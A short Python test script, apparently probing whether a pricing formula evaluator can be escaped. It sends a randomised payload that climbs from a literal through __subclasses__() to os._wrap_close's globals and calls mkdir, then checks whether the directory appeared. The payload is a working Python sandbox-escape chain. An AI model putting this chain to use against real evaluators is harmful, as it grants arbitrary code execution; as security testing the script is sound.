"""From a value the attributes lead to every loaded class, without any name or builtin."""

import random
import string
import sys
from contextlib import suppress
from pathlib import Path

from pricing import FormulaError, evaluate

SEED = 0

rng = random.Random(SEED)
marker, field, variable = ("".join(rng.choices(string.ascii_letters, k=rng.randint(4, 9))) for _ in range(3))
start = rng.choice(("()", "[]", "''", "(1).real", field))
formula = (
    f"[{variable}.__init__.__globals__['mkdir']('{marker}') for {variable} in "
    f"{start}.__class__.__base__.__subclasses__() if {variable}.__name__ == '_wrap_close']"
)
with suppress(FormulaError, ValueError, AttributeError, SyntaxError, LookupError, TypeError, NameError):
    evaluate(formula, {field: 1})
sys.exit(0 if Path(marker).exists() else 1)
